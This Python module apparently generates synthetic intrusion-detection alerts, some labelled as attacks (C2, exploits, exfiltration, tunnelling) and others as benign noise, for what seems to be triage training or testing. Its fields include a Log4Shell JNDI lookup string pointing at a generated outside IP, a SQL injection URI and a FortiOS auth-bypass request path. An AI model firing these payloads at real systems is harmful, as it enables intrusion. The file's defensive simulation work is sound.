"""Intrusion sensors: serious signatures and the everyday informational ones."""

from __future__ import annotations

from typing import Any

from generator.families.alerts.network_records import sensor_writer
from generator.scene import Scene, attack, benign, family
from generator.world import World

Row = tuple[str, str, dict[str, Any]]


@family("alerts/sensor-compromise", attack=True, weight=1.5)
def sensor_compromise(world: World) -> Scene:
    groups: list[tuple[Any, list[Row]]] = [
        (attack("Command and Control", "T1071.001", severity="CRITICAL"), [("ET MALWARE Cobalt Strike Malleable C2 Profile (jquery)", "A Network Trojan was detected", {"http": {"url": "/jquery-3.3.1.min.js", "http_user_agent": "Mozilla/5.0 (compatible; MSIE 9.0)"}}), ("ET MALWARE AgentTesla Exfil Via SMTP", "A Network Trojan was detected", {}), ("ET MALWARE Win32/Emotet CnC Activity (POST) M9", "Malware Command and Control Activity Detected", {}), ("MALWARE-CNC Win.Trojan.Qakbot outbound connection", "A Network Trojan was Detected", {}), ("ET CNC Feodo Tracker Reported CnC Server group 12", "Malware Command and Control Activity Detected", {}), ("ET MALWARE Observed DNS Query to Known Async RAT Domain", "Domain Observed Used for C2 Detected", {"dns": {"query": [{"rrname": world.word(9) + ".duckdns.org"}]}}), ("SSLBL: Malicious JA3 fingerprint (TrickBot)", "A Network Trojan was detected", {"tls": {"sni": world.word(8) + ".top"}})]),
        (attack("Remote Code Execution Exploit", "T1210", severity="CRITICAL"), [("ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Response", "A Network Trojan was detected", {}), ("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", {"http": {"http_user_agent": "${jndi:ldap://" + world.ip_public() + ":1389/b}"}}), ("ET EXPLOIT Fortinet FortiOS Authentication Bypass (CVE-2022-40684)", "Web Application Attack", {"http": {"url": "/api/v2/cmdb/system/admin/admin", "http_method": "PUT"}}), ("SERVER-WEBAPP Citrix ADC NSPPE overflow attempt", "Attempted Administrator Privilege Gain", {}), ("ET EXPLOIT Possible Zerologon NetrServerAuthenticate (CVE-2020-1472)", "Attempted Administrator Privilege Gain", {}), ("OS-WINDOWS Microsoft RDP BlueKeep channel attempt", "Attempted Administrator Privilege Gain", {})]),
        (attack("Malware Detected", "T1105", "T1204.002", severity="CRITICAL"), [("ET MALWARE Likely Evil EXE download from dotted Quad by MSXMLHTTP M1", "A Network Trojan was detected", {"http": {"hostname": world.ip_public(), "url": "/inv.exe", "http_user_agent": "Mozilla/4.0 (compatible; MSXML)"}}), ("ET MALWARE ELF/Mirai Variant download", "A Network Trojan was detected", {"http": {"url": "/bins/arm7"}}), ("FILE-EXECUTABLE Portable Executable in image content type", "A suspicious filename was detected", {"http": {"url": "/logo.jpg", "http_content_type": "image/jpeg"}})]),
        (attack("Cryptomining", "T1496.001", severity="HIGH"), [("ET COINMINER Crypto Miner login JSON-RPC", "Crypto Currency Mining Activity Detected", {"payload_printable": '{"method":"login","params":{"login":"4","agent":"XMRig/6.21"}}'}), ("ET DNS Query for Monero pool domain", "Crypto Currency Mining Activity Detected", {"dns": {"query": [{"rrname": "pool.minexmr.com"}]}})]),
        (attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM"), [("ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", {}), ("ET WEB_SERVER SQL Injection SELECT FROM in URI sqlmap", "Web Application Attack", {"http": {"url": "/p?id=1%20UNION%20SELECT%20user()", "http_user_agent": "sqlmap/1.7"}}), ("ET SCAN Nmap Scripting Engine User-Agent Detected", "Web Application Attack", {})]),
        (attack("Lateral Movement", "T1021.002", severity="HIGH"), [("ET RPC DCERPC SVCCTL - Remote Service Control Manager Access by PsExec-like client", "Potentially Bad Traffic", {}), ("ET POLICY SMB Executable File Transfer to ADMIN$", "Potentially Bad Traffic", {"smb": {"share": "\\\\10.0.0.4\\ADMIN$", "filename": world.word(8) + ".exe"}}), ("ET ATTACK_RESPONSE Impacket WMIExec output", "Successful Administrator Privilege Gain", {})]),
        (attack("Potential Data Exfiltration", "T1048", severity="CRITICAL"), [("ET EXPLOIT_KIT large outbound upload to file sharing (anonfiles)", "Large Scale Information Leak", {"http": {"hostname": "api.anonfiles.com", "http_method": "POST", "length": 918273645}}), ("INDICATOR-COMPROMISE archive with passwd file sent by FTP", "Information Leak", {"ftp": {"command": "STOR", "command_data": "loot.tgz"}})]),
        (attack("DNS Tunnelling", "T1071.004", severity="HIGH"), [("ET HUNTING iodine DNS tunnel handshake", "Potentially Bad Traffic", {"dns": {"query": [{"rrname": world.hex(50) + ".t." + world.word(6) + ".com", "rrtype": "NULL"}]}}), ("PROTOCOL-DNS dnscat2 TXT exfiltration", "A Network Trojan was Detected", {"dns": {"query": [{"rrname": "dnscat." + world.hex(56), "rrtype": "TXT"}]}})]),
    ]
    scene, write = Scene(), sensor_writer(world)
    label, rows = world.pick(groups)
    for signature, category, more in world.some(rows, 1, world.pick([1, 1, 2, 3])):
        world.tick(1, 120)
        scene.add(write(signature, category, world.pick([1, 1, 2]), more), label)
    return scene


@family("alerts/sensor-informational", attack=False, weight=2.0)
def sensor_informational(world: World) -> Scene:
    rows: list[tuple[str, str, dict[str, Any], str]] = [
        ("ET INFO Windows Update P2P Activity", "Misc activity", {}, "Network Service"), ("ET POLICY Dropbox.com Offsite File Backup in Use", "Potential Corporate Privacy Violation", {"tls": {"sni": "client.dropbox.com"}}, "Network Service"), ("ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management", "Not Suspicious Traffic", {"http": {"http_user_agent": "Debian APT-HTTP/1.3"}}, "Software Update"), ("ET INFO Session Traversal Utilities for NAT (STUN Binding Request)", "Generic Protocol Command Decode", {}, "Network Service"), ("ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", {"dns": {"query": [{"rrname": "status.partner.cloud"}]}}, "Network Service"), ("ET DNS Query for .to TLD", "Potentially Bad Traffic", {}, "Network Service"), ("ET POLICY TeamViewer Keep-alive", "Potential Corporate Privacy Violation", {}, "Network Service"), ("ET POLICY curl User-Agent Outbound", "Attempted Information Leak", {"http": {"hostname": "packages.microsoft.com", "http_user_agent": "curl/8.5.0"}}, "Software Update"), ("ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", {"http": {"hostname": "dl.delivery.mp.microsoft.com", "url": "/filestreamingservice/files/setup.exe"}}, "Software Update"), ("SURICATA STREAM excessive retransmissions", "Generic Protocol Command Decode", {}, "System Activity"), ("SURICATA TLS invalid record/traffic", "Generic Protocol Command Decode", {}, "System Activity"), ("SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", {}, "System Activity"), ("ET SCAN Zmap User-Agent (Inbound)", "Detection of a Network Scan", {"http": {"url": "/", "http_user_agent": "Mozilla/5.0 zgrab/0.x"}}, "Blocked Noise"),
        ("ET DROP Dshield Block Listed Source group 1", "Misc Attack", {}, "Blocked Noise"), ("ET CINS Active Threat Intelligence Poor Reputation IP group 40", "Misc Attack", {}, "Blocked Noise"), ("ET COMPROMISED Known Compromised or Hostile Host Traffic group 3", "Misc Attack", {}, "Blocked Noise"), ("GPL ICMP_INFO PING *NIX", "Misc activity", {}, "Monitoring Probe"), ("ET SCAN Potential VNC Scan 5900-5920", "Attempted Information Leak", {}, "Blocked Noise"), ("GPL SNMP public access udp", "Attempted Information Leak", {}, "Monitoring Probe"), ("ET INFO PDF Using CCITTFax Filter", "Misc activity", {}, "Normal Traffic"), ("ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM", "Web Application Attack", {"http": {"url": "/report?order=select+region"}}, "Normal Traffic"), ("ET INFO Android Device Connectivity Check", "Misc activity", {}, "Network Service"), ("ET GAMES STEAM Connection", "Potential Corporate Privacy Violation", {}, "Network Service"), ("ET POLICY Spotify P2P Client", "Potential Corporate Privacy Violation", {}, "Network Service"), ("ET JA3 Hash - Possible Malware - Banking Phish", "Unknown Traffic", {"tls": {"sni": "backup.wasabisys.com"}}, "Backup Job"),
    ]
    scene, write = Scene(), sensor_writer(world)
    for signature, category, more, kind in world.some(rows, 1, world.pick([1, 1, 2, 4])):
        world.tick(1, 400)
        scene.add(write(signature, category, world.pick([1, 2, 3, 3]), more), benign(kind))
    return scene
